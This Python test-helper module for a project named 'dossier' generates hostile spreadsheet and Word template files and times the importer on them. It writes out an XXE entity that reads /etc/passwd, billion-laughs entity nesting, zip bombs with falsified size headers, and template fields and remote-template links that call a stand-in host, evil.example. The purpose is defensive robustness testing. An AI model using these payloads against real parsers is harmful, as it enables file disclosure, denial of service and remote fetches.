"""Generators of hostile workbooks and Word templates (real zips), and a bounded runner.

Each generator writes a file to a given path and returns it. ``run_measured`` runs a CLI
command in a fresh interpreter and reports its wall time and peak memory, so tests can hold
hostile input to the limits of the issue (under 5 s and 300 MB).
"""

from __future__ import annotations

import io
import os
import re
import struct
import subprocess
import sys
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path

from docx import Document
from docx.oxml import parse_xml

from dossier.core.model import Dossier
from dossier.formats.xlsx_export import build_xlsx

ROOT = Path(__file__).resolve().parents[2]
MB = 1024 * 1024
EVIL = "http://evil.example"
XXE_DTD = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol0 "lol">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    + "]>"
)
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
REL_IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
REL_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
DOTM_MAIN = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


# --- zips ------------------------------------------------------------------------------------


def rewrite_zip(src: bytes, dst: Path, changes: dict, extra: dict | None = None) -> Path:
    """Copy a zip; ``changes`` maps a member to a function of its bytes, ``extra`` adds members."""
    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            change = changes.get(info.filename)
            zout.writestr(info.filename, change(data) if change else data)
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    return dst


def zeros_bomb(dst: Path, member: str, megabytes: int, others: dict | None = None) -> Path:
    """A zip whose ``member`` unpacks to ``megabytes`` of zeros (packs about 1000:1)."""
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (others or {}).items():
            archive.writestr(name, data)
        with archive.open(member, "w", force_zip64=True) as stream:
            block = bytes(MB)
            for _ in range(megabytes):
                stream.write(block)
    return dst


def understate_sizes(path: Path, member: str, declared: int) -> Path:
    """Make the zip directory lie: ``member`` claims to unpack to only ``declared`` bytes."""
    data = bytearray(path.read_bytes())
    name = member.encode()
    for signature, size_at in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        for match in re.finditer(re.escape(signature), bytes(data)):
            start = match.start()
            name_at = start + (46 if signature == b"PK\x01\x02" else 30)
            if data[name_at : name_at + len(name)] == name:
                data[start + size_at : start + size_at + 4] = struct.pack("<I", declared)
    path.write_bytes(bytes(data))
    return path


# --- workbooks ---------------------------------------------------------------------------------


def sheet_member(xlsx: bytes, sheet_name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        workbook = archive.read("xl/workbook.xml").decode()
        rels = archive.read("xl/_rels/workbook.xml.rels").decode()
    rid = re.search(
        rf'<sheet name="{re.escape(sheet_name)}" sheetId="\d+"(?: state="\w+")? r:id="(rId\d+)"', workbook
    ).group(1)
    target = re.search(rf'Id="{rid}" Type="[^"]+" Target="([^"]+)"', rels).group(1)
    return "xl/" + target.lstrip("/").removeprefix("xl/")


def _with_dtd(dtd: str, entity: str):
    def change(data: bytes) -> bytes:
        text = data.decode("utf-8")
        end = text.index("?>") + 2
        text = text[:end] + dtd + text[end:]
        return (
            text.replace("<t>", f"<t>{entity}", 1)
            .replace('<t xml:space="preserve">', f"<t>{entity}", 1)
            .replace('name="Souhrn"', f'name="Souhrn{entity}"', 1)
            .encode()
        )

    return change


def xlsx_xxe(dossier: Dossier, dst: Path) -> Path:
    """An external entity (file:///etc/passwd) in the workbook part."""
    return rewrite_zip(build_xlsx(dossier), dst, {"xl/workbook.xml": _with_dtd(XXE_DTD, "&xxe;")})


_INLINE = re.compile(r'(<c [^>]*?)t="inlineStr"([^>]*)><is>(.*?)</is></c>', re.S)


def saved_by_a_spreadsheet(dossier: Dossier) -> bytes:
    """Our export as a spreadsheet program saves it again: texts in a shared-strings part.

    The export writes its texts inline; Excel moves them to ``xl/sharedStrings.xml`` (with a
    relationship and a content type), the part the hostile variants below aim at.
    """
    xlsx = build_xlsx(dossier)
    strings: list[str] = []

    def share(match: re.Match) -> str:
        strings.append(match.group(3))
        return f'{match.group(1)}t="s"{match.group(2)}><v>{len(strings) - 1}</v></c>'

    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = {n: archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")}
    changes = {name: _INLINE.sub(share, text).encode() for name, text in sheets.items()}
    sst = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.openxmlformats.org/'
        f'spreadsheetml/2006/main" count="{len(strings)}" uniqueCount="{len(strings)}">'
        + "".join(f"<si>{item}</si>" for item in strings)
        + "</sst>"
    )
    rel = (
        '<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    )
    override = (
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.sharedStrings+xml"/></Types>'
    )
    changes["xl/_rels/workbook.xml.rels"] = lambda data: data.replace(b"</Relationships>", rel.encode())
    changes["[Content_Types].xml"] = lambda data: data.replace(b"</Types>", override.encode())
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item)
            change = changes.get(item.filename)
            target.writestr(item, change(data) if callable(change) else change if change is not None else data)
        target.writestr("xl/sharedStrings.xml", sst)
    return out.getvalue()


def xlsx_billion_laughs(dossier: Dossier, dst: Path) -> Path:
    """Nested entities (10⁹ "lol") in the shared strings."""
    return rewrite_zip(
        saved_by_a_spreadsheet(dossier), dst, {"xl/sharedStrings.xml": _with_dtd(BILLION_LAUGHS, "&lol9;")}
    )


def xlsx_shared_strings_bomb(dst: Path, megabytes: int = 400) -> Path:
    """A shared-strings part that unpacks to ``megabytes`` (declared honestly)."""
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as stream:
            stream.write(
                b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            )
            block = b"<si><t>prevence</t></si>" * (MB // 24)
            for _ in range(megabytes):
                stream.write(block)
            stream.write(b"</sst>")
    return dst


def xlsx_many_shared_strings(dossier: Dossier, dst: Path, filler: int = 1_500_000, distinct: bool = False) -> Path:
    """Our workbook with ``filler`` strings put before its own in the shared strings (every index shifted)."""
    xlsx = saved_by_a_spreadsheet(dossier)
    sst_head = re.compile(rb"(<sst [^>]*>)")
    pad = (
        "".join(f"<si><t>text {n * 7919 % 1000003}</t></si>" for n in range(filler)).encode()
        if distinct
        else b"<si><t>x</t></si>" * filler
    )

    def strings(data: bytes) -> bytes:
        data = re.sub(rb' count="\d+" uniqueCount="\d+"', b"", data, count=1)
        return sst_head.sub(lambda m: m.group(1) + pad, data, count=1)

    def shift(data: bytes) -> bytes:
        return re.sub(
            rb'(<c r="[A-Z]+\d+"(?: s="\d+")? t="s"><v>)(\d+)(</v>)',
            lambda m: m.group(1) + str(int(m.group(2)) + filler).encode() + m.group(3),
            data,
        )

    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    return rewrite_zip(xlsx, dst, {"xl/sharedStrings.xml": strings, **{s: shift for s in sheets}})


def _million_rows(first: int, rows: int, with_text: bool) -> bytes:
    cell = '<c r="B{0}" t="inlineStr"><is><t>řádek</t></is></c>' if with_text else '<c r="A{0}"><v>1</v></c>'
    return "".join(
        f'<row r="{n}"><c r="A{n}"><v>{n}</v></c>{cell.format(n)}</row>' for n in range(first, first + rows)
    ).encode()


def many_shared_strings(dossier: Dossier, dst: Path, filler: int) -> Path:
    """Like ``xlsx_many_shared_strings`` with distinct filler strings, which pack like real text."""
    return xlsx_many_shared_strings(dossier, dst, filler, distinct=True)


def xlsx_million_rows_data_sheet(dossier: Dossier, dst: Path, rows: int = 1_000_000) -> Path:
    """A million rows after the JSON chunks of the hidden data sheet."""
    xlsx = build_xlsx(dossier)

    def change(data: bytes) -> bytes:
        last = max(int(n) for n in re.findall(rb'<row r="(\d+)"', data))
        return data.replace(b"</sheetData>", _million_rows(last + 1, rows, False) + b"</sheetData>", 1)

    from dossier.formats.xlsx_common import DATA_SHEET

    return rewrite_zip(xlsx, dst, {sheet_member(xlsx, DATA_SHEET): change})


def xlsx_million_budget_rows(dossier: Dossier, dst: Path, sheet_name: str, rows: int = 1_000_000) -> Path:
    """A project sheet whose budget table goes on for a million rows (the totals below are gone)."""
    xlsx = build_xlsx(dossier)

    def change(data: bytes) -> bytes:
        head, _, _rest = data.partition(b"<sheetData>")
        all_rows = re.findall(rb"<row .*?</row>", data)
        # Title, facts (the kind's too) and the table header: everything up to the row naming "Položka".
        header = next(i for i, row in enumerate(all_rows) if "Položka".encode() in row)
        first = int(re.match(rb'<row r="(\d+)"', all_rows[header]).group(1)) + 1
        body = b"".join(all_rows[: header + 1]) + _million_rows(first, rows, True)
        tail = data[data.index(b"</sheetData>") :]
        tail = re.sub(rb"<mergeCells.*?</mergeCells>", b"", tail)
        return head + b"<sheetData>" + body + tail

    return rewrite_zip(xlsx, dst, {sheet_member(xlsx, sheet_name): change})


# --- Word templates ------------------------------------------------------------------------------


def plain_template() -> bytes:
    buffer = io.BytesIO()
    Document().save(buffer)
    return buffer.getvalue()


def _docx_with_footer(footer_xml: str) -> bytes:
    doc = Document()
    footer = doc.sections[0].footer
    footer.paragraphs[0]._p.addnext(parse_xml(footer_xml))
    buffer = io.BytesIO()
    doc.save(buffer)
    return buffer.getvalue()


def template_include_picture(dst: Path) -> Path:
    """INCLUDEPICTURE (complex field and simple field), INCLUDETEXT and LINK in the footer."""
    footer = (
        f"<w:p {W_NS}><w:r><w:t>strana </w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "{EVIL}/logo.png" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>[logo]</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        f"<w:fldSimple w:instr=' INCLUDETEXT \"{EVIL}/text.docx\" '><w:r><w:t>[text]</w:t></w:r></w:fldSimple>"
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> LINK Excel.Sheet.8 "{EVIL}/a.xls" "" \\a </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    dst.write_bytes(_docx_with_footer(footer))
    return dst


def template_remote(dst: Path) -> Path:
    """A .dotx whose settings attach a template on a server."""
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdT" Type="{REL_TEMPLATE}" Target="{EVIL}/normal.dotm" '
        'TargetMode="External"/></Relationships>'
    )

    def settings(data: bytes) -> bytes:  # python-docx's settings part declares the r: namespace
        return re.sub(rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdT"/>', data, count=1)

    def as_dotx(data: bytes) -> bytes:
        return data.replace(DOCX_MAIN.encode(), DOCX_MAIN.replace("document.main", "template.main").encode())

    return rewrite_zip(
        plain_template(),
        dst,
        {"word/settings.xml": settings, "[Content_Types].xml": as_dotx},
        {"word/_rels/settings.xml.rels": settings_rels},
    )


def template_external_image(dst: Path) -> Path:
    """A header picture linked from a server (an external image relationship) and a hyperlink."""
    doc = Document()
    header = doc.sections[0].header
    rid = header.part.relate_to(f"{EVIL}/logo.png", REL_IMAGE, is_external=True)
    link = header.part.relate_to(
        f"{EVIL}/", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink", is_external=True
    )
    header.paragraphs[0]._p.append(
        parse_xml(
            f'<w:r {W_NS} xmlns:v="urn:schemas-microsoft-com:vml" {R_NS}><w:pict><v:shape>'
            f'<v:imagedata r:id="{rid}"/></v:shape></w:pict></w:r>'
        )
    )
    header.paragraphs[0]._p.append(
        parse_xml(f'<w:hyperlink {W_NS} {R_NS} r:id="{link}"><w:r><w:t>web</w:t></w:r></w:hyperlink>')
    )
    doc.save(str(dst))
    return dst


def template_macro(dst: Path) -> Path:
    """A macro-enabled template (.dotm): its content type and a vbaProject.bin part."""

    def types(data: bytes) -> bytes:
        return data.replace(DOCX_MAIN.encode(), DOTM_MAIN.encode())

    return rewrite_zip(
        plain_template(),
        dst,
        {"[Content_Types].xml": types},
        {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(2000)},
    )


def template_entity(dst: Path) -> Path:
    """An XML entity in the footer (which gave a broken .docx)."""
    doc = _docx_with_footer(f"<w:p {W_NS}><w:r><w:t>strana</w:t></w:r></w:p>")

    def footer(data: bytes) -> bytes:
        text = data.decode()
        end = text.index("?>") + 2
        return (
            (text[:end] + '<!DOCTYPE w:ftr [<!ENTITY firma "Město Plzeň">]>' + text[end:])
            .replace("<w:t>strana</w:t>", "<w:t>&firma;</w:t>")
            .encode()
        )

    with zipfile.ZipFile(io.BytesIO(doc)) as archive:
        member = next(n for n in archive.namelist() if n.startswith("word/footer"))
    return rewrite_zip(doc, dst, {member: footer})


def template_zip_bomb(dst: Path, megabytes: int = 1000) -> Path:
    """A template whose document part unpacks to ``megabytes`` (declared honestly)."""
    with zipfile.ZipFile(io.BytesIO(plain_template())) as source:
        others = {n: source.read(n) for n in source.namelist() if n != "word/document.xml"}
    return zeros_bomb(dst, "word/document.xml", megabytes, others)


# --- measuring ---------------------------------------------------------------------------------

# The peak is read inside the child: getrusage(RUSAGE_CHILDREN) would also count the test
# process's own memory, which Linux carries across fork and exec into ru_maxrss.
_RUNNER = """
import sys
from dossier.cli import main
code = main(sys.argv[1:])
sys.stdout.flush()
try:
    with open("/proc/self/status") as status:  # Linux: peak of this program's memory since exec
        peak = next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))
except OSError:
    try:
        import resource  # macOS and other Unixes (bytes on macOS)
        peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // (1024 if sys.platform == "darwin" else 1)
    except ImportError:  # Windows: the process's peak working set
        import ctypes
        from ctypes import wintypes

        class Counters(ctypes.Structure):
            _fields_ = [("cb", wintypes.DWORD), ("PageFaultCount", wintypes.DWORD),
                        ("PeakWorkingSetSize", ctypes.c_size_t), ("WorkingSetSize", ctypes.c_size_t),
                        ("QuotaPeakPagedPoolUsage", ctypes.c_size_t), ("QuotaPagedPoolUsage", ctypes.c_size_t),
                        ("QuotaPeakNonPagedPoolUsage", ctypes.c_size_t), ("QuotaNonPagedPoolUsage", ctypes.c_size_t),
                        ("PagefileUsage", ctypes.c_size_t), ("PeakPagefileUsage", ctypes.c_size_t)]
        counters = Counters(cb=ctypes.sizeof(Counters))
        ctypes.windll.psapi.GetProcessMemoryInfo(ctypes.windll.kernel32.GetCurrentProcess(),
                                                 ctypes.byref(counters), counters.cb)
        peak = counters.PeakWorkingSetSize // 1024
print("PEAK_KB", peak, file=sys.stderr)
sys.exit(code)
"""


@dataclass
class Measured:
    code: int
    stdout: str
    stderr: str  # without the measuring line
    seconds: float
    peak_mb: float


def run_measured(*args, timeout: float = 120) -> Measured:
    """``python main.py ARGS`` in a fresh interpreter: exit code, output, wall time and peak memory."""
    started = time.perf_counter()
    env = {**os.environ, "PYTHONPATH": str(ROOT), "QT_QPA_PLATFORM": "offscreen", "PYTHONIOENCODING": "utf-8"}
    done = subprocess.run(
        [sys.executable, "-c", _RUNNER, *map(str, args)],
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=timeout,
        cwd=ROOT,
        env=env,
    )
    seconds = time.perf_counter() - started
    lines = done.stderr.splitlines()
    peak = next((int(line.split()[1]) for line in lines if line.startswith("PEAK_KB")), 0)
    stderr = "\n".join(line for line in lines if not line.startswith("PEAK_KB"))
    return Measured(done.returncode, done.stdout, stderr, seconds, peak / 1024)


def xlsx_wide_row(dossier: Dossier, dst: Path, sheet_name: str, cells: int = 1_000_000) -> Path:
    """A project sheet whose title row goes on for a million cells."""
    xlsx = build_xlsx(dossier)

    def change(data: bytes) -> bytes:
        wide = "".join(f'<c r="{_column_name(n)}1"><v>{n}</v></c>' for n in range(20, 20 + cells)).encode()
        first_row_end = data.index(b"</row>")
        return data[:first_row_end] + wide + data[first_row_end:]

    return rewrite_zip(xlsx, dst, {sheet_member(xlsx, sheet_name): change})


def _column_name(n: int) -> str:
    name = ""
    n += 1
    while n:
        n, rest = divmod(n - 1, 26)
        name = chr(65 + rest) + name
    return name
